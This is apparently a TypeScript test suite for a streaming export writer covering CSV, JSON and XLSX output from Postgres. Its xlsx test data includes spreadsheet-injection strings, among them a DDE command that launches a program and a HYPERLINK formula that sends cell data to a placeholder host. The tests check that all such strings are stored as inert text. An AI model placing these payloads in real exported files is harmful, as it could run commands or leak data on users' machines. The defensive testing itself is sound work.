/** The streaming writer: row counting across chunk boundaries, JSON framing and spreadsheet cells, on real COPY output. */
import assert from 'node:assert/strict';
import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import * as XLSX from 'xlsx';
import pg from 'pg';
import { testDatabase } from './helpers/db.ts';
import type { ExportQuery } from '../src/exports/query.ts';
import { openSheetWriter, SheetFullError } from '../src/exports/sheet.ts';
import { writeExport } from '../src/exports/writer.ts';

const url = await testDatabase();

/** Collects what the pipeline writes. */
function sink(): { stream: Writable; text: () => string; bytes: () => Buffer } {
  const parts: Buffer[] = [];
  const bytes = () => Buffer.concat(parts);
  return { stream: new Writable({ write(chunk: Buffer, _e, cb) { parts.push(chunk); cb(); } }), text: () => bytes().toString('utf8'), bytes };
}

const rowsSql = `SELECT n::text AS "N", CASE WHEN n % 3 = 0 THEN E'multi\\nline, "quoted"' WHEN n % 3 = 1 THEN 'plain ☕' END AS "V" FROM generate_series(1, 2000) n ORDER BY n`;
const jsonSql = `SELECT '{"N":' || to_json(n::text)::text || ',"V":' || to_json(coalesce(CASE WHEN n % 2 = 0 THEN E'a\\nb "c" \\\\ é 😀' END, ''))::text || '}' FROM generate_series(1, 2000) n ORDER BY n`;

/** A query of which a test fills the part it exports. */
const query = (q: Partial<ExportQuery>): ExportQuery => ({ rows: '', jsonRows: '', count: '', sheet: { name: 'export', rows: '', columns: [], dateFormat: '' }, ...q });

/** A connection of its own for one test. */
async function withClient(fn: (client: pg.Client) => Promise<void>): Promise<void> {
  const client = new pg.Client({ connectionString: url });
  await client.connect();
  try {
    await fn(client);
  } finally {
    await client.end();
  }
}

describe('writeExport', () => {
  it('CSV: counts records, not lines, with quoted newlines', () =>
    withClient(async (client) => {
      const out = sink();
      let seen = 0;
      const n = await writeExport(client, query({ rows: rowsSql }), out.stream, { format: 'csv', zone: undefined, onRows: (r) => (seen = r) });
      assert.equal(n, 2000);
      assert.equal(seen, 2000);
      const text = out.text();
      assert.ok(text.startsWith('N,V\n1,plain ☕\n2,\n3,"multi\nline, ""quoted"""\n'));
      const records = parse<Record<string, string>>(text, { columns: true });
      assert.equal(records.length, n, 'the count matches what a CSV parser reads');
      assert.deepEqual(records[999], { N: '1000', V: 'plain ☕' });
      assert.deepEqual(records[1997], { N: '1998', V: 'multi\nline, "quoted"' });
    }));
  it('JSON: one array, every row an object, parseable, counted', () =>
    withClient(async (client) => {
      const out = sink();
      const n = await writeExport(client, query({ jsonRows: jsonSql }), out.stream, { format: 'json', zone: undefined });
      assert.equal(n, 2000);
      const parsed = JSON.parse(out.text()) as { N: string; V: string }[];
      assert.equal(parsed.length, 2000);
      assert.deepEqual(parsed[1], { N: '2', V: 'a\nb "c" \\ é 😀' });
      assert.deepEqual(parsed[0], { N: '1', V: '' });
    }));
  it('JSON with no rows is an empty array', () =>
    withClient(async (client) => {
      const out = sink();
      const n = await writeExport(client, query({ jsonRows: `SELECT '{}' WHERE false` }), out.stream, { format: 'json', zone: undefined });
      assert.equal(n, 0);
      assert.deepEqual(JSON.parse(out.text()), []);
    }));
});

describe('writeExport, xlsx', () => {
  /** Text a spreadsheet must keep as text: formulas, DDE, signs, escapes, XML, whitespace, control characters. */
  const TEXTS = [
    '=SUM(A1:A9)', '=HYPERLINK("http://x.example/?d="&A1,"open")', "=cmd|' /C calc'!A0", '+1', '-2', '@SUM(1)', '\tTAB', '\rCR',
    '  both ends  ', `a<b>&"c"'d`, 'multi\nline', 'ümlaut ☕ 😀', '_x0041_', 'x\u0001y\u007f', '0123', '1E5', 'TRUE',
  ];
  const literal = (t: string) => `'${t.replaceAll("'", "''")}'`;
  // 03:30:00.123 on 2019-03-10, wall clock; each text row a day later.
  const WALL = Date.UTC(2019, 2, 10, 3, 30, 0, 123);
  const DAY = 86_400_000;
  const sheetSql = `
    WITH v(i, t, n, w) AS (
      VALUES ${TEXTS.map((t, i) => `(${i}, ${literal(t)}, ${i * 1_000_000_000 - 5}, ${WALL + i * DAY})`).join(', ')}
      UNION ALL SELECT 100, '', NULL, NULL
      UNION ALL SELECT 100 + g, 'row ' || g, g, ${WALL} FROM generate_series(1, 2000) g)
    SELECT '[' || coalesce(to_json(t)::text, 'null') || ',' || coalesce(to_json(n)::text, 'null') || ',' || coalesce(to_json(w)::text, 'null') || ']' FROM v ORDER BY i`;
  const sheet = { name: 'export', rows: sheetSql, columns: [{ name: 'T', cell: 'text' }, { name: 'N', cell: 'number' }, { name: 'W', cell: 'date' }] as const, dateFormat: 'yyyy-mm-dd hh:mm:ss.000' };

  /** The cell at row r, column c (0-based) of a sheet. */
  const at = (ws: XLSX.WorkSheet, r: number, c: number) => ws[XLSX.utils.encode_cell({ r, c })] as XLSX.CellObject | undefined;
  /** Epoch milliseconds of a date cell's serial, read as wall-clock UTC (serial 25569 is 1970-01-01). */
  const serialMs = (v: unknown) => Math.round(((v as number) - 25569) * DAY);

  it('strings stay strings (never formulas), numbers numbers, times dates; header frozen; read back by SheetJS', () =>
    withClient(async (client) => {
      const out = sink();
      let seen = 0;
      const n = await writeExport(client, query({ sheet }), out.stream, { format: 'xlsx', zone: undefined, onRows: (r) => (seen = r) });
      assert.equal(n, TEXTS.length + 1 + 2000);
      assert.equal(seen, n);
      const wb = XLSX.read(out.bytes(), { type: 'buffer', cellFormula: true, cellNF: true, bookFiles: true });
      assert.deepEqual(wb.SheetNames, ['export']);
      const ws = wb.Sheets['export']!;
      assert.equal(ws['!ref'], `A1:C${n + 1}`);
      assert.deepEqual([0, 1, 2].map((c) => [at(ws, 0, c)?.t, at(ws, 0, c)?.v]), [['s', 'T'], ['s', 'N'], ['s', 'W']]);
      for (const [i, text] of TEXTS.entries()) {
        const [t, num, time] = [0, 1, 2].map((c) => at(ws, i + 1, c));
        assert.deepEqual([t?.t, t?.v], ['s', text], `text ${JSON.stringify(text)} is a string cell`);
        assert.deepEqual([num?.t, num?.v, num?.z], ['n', i * 1_000_000_000 - 5, '0'], `number of row ${i}`);
        const expectedWall = new Date(WALL + i * DAY).toISOString().replace('T', ' ').slice(0, 23);
        assert.deepEqual([time?.t, serialMs(time?.v), time?.z, time?.w], ['n', WALL + i * DAY, sheet.dateFormat, expectedWall], `time of row ${i}`);
      }
      assert.deepEqual([0, 1, 2].map((c) => at(ws, TEXTS.length + 1, c)?.v), [undefined, undefined, undefined], 'an empty text and nulls are empty cells');
      for (let g = 1; g <= 2000; g++) {
        const r = TEXTS.length + 1 + g;
        assert.deepEqual([at(ws, r, 0)?.v, at(ws, r, 1)?.v, serialMs(at(ws, r, 2)?.v)], [`row ${g}`, g, WALL], `generated row ${g}`);
      }
      for (const [ref, cell] of Object.entries(ws)) if (!ref.startsWith('!')) assert.equal((cell as XLSX.CellObject).f, undefined, `${ref} has no formula`);
      const xml = ((wb as unknown as { files: Record<string, { content: Buffer }> }).files['xl/worksheets/sheet1.xml']!).content.toString('utf8');
      assert.match(xml, /<pane [^>]*ySplit="1"[^>]*state="frozen"/, 'the header row is frozen');
      assert.doesNotMatch(xml, /<f[ >]/, 'the sheet XML holds no formula');
      // A formula's cached string (t="str") loses its spaces and its _xHHHH_ escapes in LibreOffice; an inline string keeps them.
      const data = xml.slice(xml.indexOf('<row r="2"'));
      assert.match(data, /<c r="A2"[^>]*t="inlineStr"><is><r><t>=SUM\(A1:A9\)<\/t><\/r><\/is><\/c>/);
      assert.doesNotMatch(data, /t="str"/, 'no text as a formula result');
    }));

  it('more rows than the sheet may hold fail the file, never cut it short', async () => {
    const out = sink();
    const writer = await openSheetWriter(out.stream, { name: 'export', rows: '', columns: [{ name: 'N', cell: 'number' }], dateFormat: '' }, { maxRows: 3 });
    const lines = Readable.from([Buffer.from('[1]\n[2]\n[3]\n'), Buffer.from('[4]\n')]);
    await assert.rejects(pipeline(lines, writer), (e: Error) => e instanceof SheetFullError && /more than the 3 data rows one xlsx sheet holds/.test(e.message));
    assert.equal(writer.rows, 3);
  });
});
